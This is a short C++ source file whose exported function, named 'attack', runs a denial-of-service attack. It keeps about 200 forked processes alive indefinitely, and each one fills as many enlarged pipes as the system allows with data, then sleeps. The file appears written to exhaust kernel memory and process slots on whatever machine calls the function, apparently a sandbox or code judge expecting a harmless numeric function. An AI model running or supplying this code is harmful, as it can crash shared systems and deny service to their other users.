#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

static char block[1 << 16];

static void fill_pipes() {
    for (int ends[2]; pipe2(ends, O_NONBLOCK) == 0;) {
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        while (write(ends[1], block, sizeof block) > 0) {
        }
    }
    for (;;)
        pause();
}

extern "C" long attack(long n) {
    for (int running = 0;; running--) {
        for (; running < 200; running++)
            if (fork() == 0)
                fill_pipes();
        wait(nullptr);
    }
    return n;
}
